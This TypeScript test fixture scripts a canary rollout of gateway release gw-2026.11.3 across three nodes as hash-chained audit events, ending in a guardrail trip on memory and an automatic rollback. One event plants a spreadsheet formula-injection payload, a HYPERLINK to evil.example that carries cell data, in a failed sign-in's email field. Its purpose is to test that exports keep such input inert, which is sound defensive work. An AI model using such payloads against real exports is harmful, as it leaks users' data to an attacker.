import { auditHash, GENESIS_HASH, type ChainedAuditEvent } from "@/lib/audit/audit-hash";
import type { PlanStepKind } from "@/lib/plans/plan-step-kinds";
import type { IncidentPlanSummary } from "../incident-plan-summary";

export interface ScriptedRollout {
  /** The plan as its detail page would show it afterwards. */
  plan: IncidentPlanSummary;
  /** A contiguous chain from genesis: the plan's events with two users' sign-ins interleaved. */
  events: ChainedAuditEvent[];
  /** A fixed "now" for exports, so their output is byte-for-byte reproducible. */
  generatedAt: Date;
}

interface Actor {
  id: string;
  email: string;
}

type Step = IncidentPlanSummary["steps"][number];
type Bookmark = IncidentPlanSummary["bookmarks"][number];

const PLAN_ID = "plan_eu_leaky";
const ALICE: Actor = { id: "user_alice", email: "alice@ops.example" };
const BOB: Actor = { id: "user_bob", email: "bob@ops.example" };
const NODES = [
  { id: "node_eu_1", name: "gw-eu-1", wave: 0 },
  { id: "node_eu_2", name: "gw-eu-2", wave: 1 },
  { id: "node_eu_3", name: "gw-eu-3", wave: 1 },
] as const;
type ScriptNode = (typeof NODES)[number];
const STEP_KINDS: readonly PlanStepKind[] = ["drain", "upgrade", "doctor", "restart", "verify", "widen"];
const GATE_TRIP = "gw-eu-1's memory is 78.2%, above the maximum of 75%.";

/**
 * A rollout that goes wrong the way the engine handles it, written as the audit events
 * lib/server would append (same kinds, same data shapes, real auditHash chaining):
 * alice plans gw-2026.11.2 → gw-2026.11.3 on three nodes (canary 34% with a 10 min hold, then
 * 100%), bob approves and activates each restart and widen, pauses once to watch memory, and on
 * the second wave the widen gate trips on gw-eu-1's memory (78.2% > 75%). The widen fails and the
 * plan rolls itself back to its start bookmark.
 */
export function scriptedRollout(): ScriptedRollout {
  const script = new Script(Date.UTC(2026, 10, 23, 9, 58, 0));
  const [eu1, eu2, eu3] = NODES;

  script.emit("auth.signed_in", { actor: ALICE, data: { method: "password" } });
  script.wait(120);
  script.emit("plan.created", {
    actor: ALICE,
    planId: PLAN_ID,
    data: {
      title: "Roll gw-2026.11.3 out to eu-west",
      from: "gw-2026.11.2",
      to: "gw-2026.11.3",
      strategy: "rolling_canary",
      nodes: NODES.map((node) => node.name),
      waves: 2,
      approvalsRequired: 1,
      autoRollback: true,
    },
  });
  const createdAt = script.now();
  script.wait(130);
  script.emit("auth.signed_in", { actor: BOB, data: { method: "password" } });
  script.wait(20);
  // Someone probing the sign-in form with a spreadsheet formula: exports must keep it inert.
  script.emit("auth.sign_in_failed", { data: { email: '=HYPERLINK("http://evil.example/?x="&A1,"Open")' } });
  script.wait(30);
  script.emit("plan.approval_given", { actor: BOB, planId: PLAN_ID, data: { approvals: 1, required: 1 } });
  const approvedAt = script.now();
  script.emit("plan.approved", { actor: BOB, planId: PLAN_ID, data: { approvals: 1 } });
  script.wait(1);
  const start = script.captureBookmark("before plan start", "plan", NODES, null);
  script.wait(1);
  script.emit("plan.started", { planId: PLAN_ID });
  const startedAt = script.now();

  // Wave 0: the canary.
  for (const kind of ["drain", "upgrade", "doctor"] as const) script.prepareStep(eu1, kind);
  script.activateStep(eu1, "restart", BOB, 85);
  script.prepareStep(eu1, "verify");
  script.wait(40);
  script.emit("analysis.completed", {
    planId: PLAN_ID,
    data: {
      runId: "run_1",
      phase: "before_widen",
      wave: 0,
      decision: "pass",
      score: 100,
      summary: "Pass (score 100): Score 100 meets the pass threshold of 95.",
    },
  });
  script.activateStep(eu1, "widen", BOB, 100);

  // The 10 minute hold; bob pauses to watch gw-eu-1's memory, sees it settle, and resumes.
  script.wait(290);
  script.emit("plan.paused", { actor: BOB, planId: PLAN_ID, data: { reason: "memory on gw-eu-1 creeping up, watching it" } });
  script.wait(150);
  script.emit("plan.resumed", { actor: BOB, planId: PLAN_ID, data: { reason: null } });
  script.wait(165);
  script.emit("analysis.completed", {
    planId: PLAN_ID,
    data: {
      runId: "run_2",
      phase: "end_of_hold",
      wave: 0,
      decision: "marginal",
      score: 82.5,
      summary:
        "Marginal (score 82.5): memory: canary 61.2% vs baseline 47.9% (+27.8%): significantly higher (p < 0.001, α = 0.05) and beyond the allowed +10%.",
    },
  });

  // Wave 1: two nodes in parallel; the widen gate trips on the canary's memory.
  for (const kind of ["drain", "upgrade", "doctor"] as const) {
    script.prepareStep(eu2, kind);
    script.prepareStep(eu3, kind);
  }
  script.activateStep(eu2, "restart", BOB, 60);
  script.activateStep(eu3, "restart", BOB, 15);
  script.prepareStep(eu2, "verify");
  script.prepareStep(eu3, "verify");
  script.awaitActivation(eu2, "widen");
  script.awaitActivation(eu3, "widen");
  script.activateStep(eu2, "widen", BOB, 45, { tripped: true });

  script.wait(2);
  const restoreId = "restore_1";
  script.emit("bookmark.restore_requested", {
    planId: PLAN_ID,
    data: {
      bookmarkId: start.id,
      restoreId,
      label: start.label,
      automatic: true,
      reason: `Stopped (step failed): widen on gw-eu-2: Gate before widen failed: ${GATE_TRIP}`,
    },
  });
  const restoreStartedAt = script.now();
  for (const node of NODES) {
    script.agent(node, "rollback", 21_400);
    script.agent(node, "undrain", 900);
    script.agent(node, "verify", 2_100);
  }
  script.wait(3);
  script.emit("bookmark.restored", {
    planId: PLAN_ID,
    data: { restoreId, bookmarkId: start.id, automatic: true, nodes: NODES.map((node) => ({ name: node.name, ok: true, error: null })) },
  });
  const finishedAt = script.now();
  start.restores.push({ id: restoreId, status: "succeeded", automatic: true, actor: null, startedAt: restoreStartedAt, finishedAt });
  for (const step of script.steps) if (step.status === "pending" || step.status === "awaiting_activation") step.status = "skipped";

  return {
    plan: {
      id: PLAN_ID,
      title: "Roll gw-2026.11.3 out to eu-west",
      status: "rolled_back",
      statusReason: `Rolled back to bookmark "before plan start" after: Stopped (step failed): widen on gw-eu-2: Gate before widen failed: ${GATE_TRIP}`,
      strategy: {
        kind: "rolling_canary",
        stages: [
          { percent: 34, holdSeconds: 600 },
          { percent: 100, holdSeconds: 0 },
        ],
      },
      guardrails: { maxMemoryPercent: 75, maxP95Ms: 800 },
      waves: [
        { index: 0, nodeIds: [eu1.id], holdSeconds: 600 },
        { index: 1, nodeIds: [eu2.id, eu3.id], holdSeconds: 0 },
      ],
      approvalsRequired: 1,
      autoRollback: true,
      fromRelease: { id: "release_2026_11_2", name: "gw-2026.11.2", coreVersion: "2026.11.2" },
      toRelease: { id: "release_2026_11_3", name: "gw-2026.11.3", coreVersion: "2026.11.3" },
      author: ALICE.email,
      createdAt,
      startedAt,
      finishedAt,
      approvals: [{ approver: BOB.email, at: approvedAt }],
      nodes: NODES.map((node) => ({
        id: node.id,
        name: node.name,
        role: node.wave === 0 ? "canary" : "worker",
        region: "eu-west-1",
        coreVersion: "2026.11.2",
        lbWeight: 100,
        wave: node.wave,
        initialWeight: 100,
      })),
      steps: script.steps,
      bookmarks: script.bookmarks,
    },
    events: script.events,
    generatedAt: new Date(Date.UTC(2026, 10, 23, 15, 0, 0)),
  };
}

/** Appends chained events on a scripted clock and keeps the plan's steps and bookmarks in step. */
class Script {
  readonly events: ChainedAuditEvent[] = [];
  readonly steps: Step[];
  readonly bookmarks: Bookmark[] = [];
  private clock: number;

  constructor(startMs: number) {
    this.clock = startMs;
    this.steps = NODES.flatMap((node) =>
      STEP_KINDS.map((kind, index) => ({
        id: `step_${node.name}_${kind}`,
        nodeId: node.id,
        wave: node.wave,
        seq: index,
        kind,
        mode: kind === "restart" || kind === "widen" ? ("activate" as const) : ("prepare" as const),
        status: "pending",
        targetWeight: null,
        error: null,
        attempt: 1,
        startedAt: null,
        finishedAt: null,
        timeoutAt: null,
        activatedBy: null,
        liveness: null,
      })),
    );
  }

  now(): string {
    return new Date(this.clock).toISOString();
  }

  wait(seconds: number): void {
    this.clock += seconds * 1_000;
  }

  emit(kind: string, fields: { actor?: Actor; nodeId?: string; planId?: string; data?: unknown }): void {
    const prevHash = this.events.at(-1)?.hash ?? GENESIS_HASH;
    const content = {
      seq: String(this.events.length + 1),
      at: this.now(),
      actorId: fields.actor?.id ?? null,
      actorEmail: fields.actor?.email ?? null,
      kind,
      nodeId: fields.nodeId ?? null,
      planId: fields.planId ?? null,
      data: fields.data ?? {},
    };
    this.events.push({ ...content, prevHash, hash: auditHash(prevHash, content) });
  }

  captureBookmark(label: string, scope: "plan" | "node", nodes: readonly ScriptNode[], stepId: string | null): Bookmark {
    const bookmark: Bookmark = {
      id: stepId ? `bookmark_${stepId}` : "bookmark_start",
      label,
      scope,
      capturedAt: this.now(),
      nodes: nodes.map((node) => ({ name: node.name, core: "2026.11.2", weight: 100, drained: false })),
      restores: [],
    };
    this.bookmarks.push(bookmark);
    this.emit("bookmark.captured", {
      planId: PLAN_ID,
      data: { bookmarkId: bookmark.id, label, scope, nodes: nodes.map((node) => node.name) },
    });
    return bookmark;
  }

  /** One agent round trip, as run-agent-action records it: the accepted call, then the finished reply. */
  agent(node: ScriptNode, action: string, tookMs: number): void {
    const operationId = `op_${this.events.length + 1}`;
    const requestId = `req_${node.name}_${action}_${this.events.length + 1}`;
    this.emit("agent.call", {
      nodeId: node.id,
      planId: PLAN_ID,
      data: { node: node.name, action, requestId, operationId, repeated: false, durationMs: 38 },
    });
    this.clock += tookMs;
    this.emit("agent.reply", {
      nodeId: node.id,
      planId: PLAN_ID,
      data: { node: node.name, action, operationId, status: "succeeded", durationMs: tookMs + 38, error: null },
    });
  }

  prepareStep(node: ScriptNode, kind: "drain" | "upgrade" | "doctor" | "verify"): void {
    const step = this.step(node, kind);
    this.wait(1);
    step.status = "running";
    step.startedAt = this.now();
    this.captureBookmark(`before ${kind} on ${node.name}`, "node", [node], step.id);
    const tookMs = { drain: 4_200, upgrade: 48_500, doctor: 6_300, verify: 3_100 }[kind];
    if (kind === "verify") {
      this.agent(node, "verify", tookMs);
      this.gate(node, "verify", []);
    } else {
      this.agent(node, kind, tookMs);
    }
    this.succeed(step, node);
  }

  awaitActivation(node: ScriptNode, kind: "restart" | "widen"): void {
    const step = this.step(node, kind);
    if (step.status !== "pending") return;
    this.wait(1);
    step.status = "awaiting_activation";
    this.emit("step.awaiting_activation", { nodeId: node.id, planId: PLAN_ID, data: { stepId: step.id, kind, node: node.name } });
  }

  activateStep(node: ScriptNode, kind: "restart" | "widen", actor: Actor, thinkSeconds: number, options: { tripped?: boolean } = {}): void {
    const step = this.step(node, kind);
    this.awaitActivation(node, kind);
    this.wait(thinkSeconds);
    step.status = "running";
    step.activatedBy = actor.email;
    step.startedAt = this.now();
    this.emit("step.activated", {
      actor,
      nodeId: node.id,
      planId: PLAN_ID,
      data: { stepId: step.id, kind, node: node.name, targetWeight: null },
    });
    this.wait(1);
    this.captureBookmark(`before ${kind} on ${node.name}`, "plan", NODES, step.id);
    if (kind === "restart") {
      this.agent(node, "restart", 12_800);
      this.succeed(step, node);
      return;
    }
    const upgraded = NODES.filter((candidate) => candidate.wave === 0 || candidate.id === node.id);
    if (options.tripped) {
      const failure = {
        code: "guardrail",
        nodeId: NODES[0].id,
        nodeName: NODES[0].name,
        guardrail: "maxMemoryPercent",
        limit: 75,
        observed: 78.2,
        message: GATE_TRIP,
      };
      this.gate(node, "widen", [failure], upgraded);
      step.status = "failed";
      step.error = `Gate before widen failed: ${GATE_TRIP}`;
      step.finishedAt = this.now();
      this.emit("step.failed", { nodeId: node.id, planId: PLAN_ID, data: { stepId: step.id, kind, node: node.name, error: step.error } });
      return;
    }
    this.gate(node, "widen", [], upgraded);
    this.agent(node, "set-weight", 400);
    this.agent(node, "undrain", 700);
    this.succeed(step, node);
  }

  private gate(node: ScriptNode, gate: "verify" | "widen", failures: object[], checked: readonly ScriptNode[] = [node]): void {
    this.wait(1);
    this.emit(failures.length ? "gate.tripped" : "gate.passed", {
      nodeId: node.id,
      planId: PLAN_ID,
      data: { gate, stepId: this.step(node, gate).id, node: node.name, nodes: checked.map((candidate) => candidate.name), failures },
    });
  }

  private succeed(step: Step, node: ScriptNode): void {
    step.status = "succeeded";
    step.finishedAt = this.now();
    this.emit("step.succeeded", {
      nodeId: node.id,
      planId: PLAN_ID,
      data: { stepId: step.id, kind: step.kind, node: node.name, error: null },
    });
  }

  private step(node: ScriptNode, kind: PlanStepKind): Step {
    const step = this.steps.find((candidate) => candidate.nodeId === node.id && candidate.kind === kind);
    if (!step) throw new Error(`no ${kind} step for ${node.name}`);
    return step;
  }
}
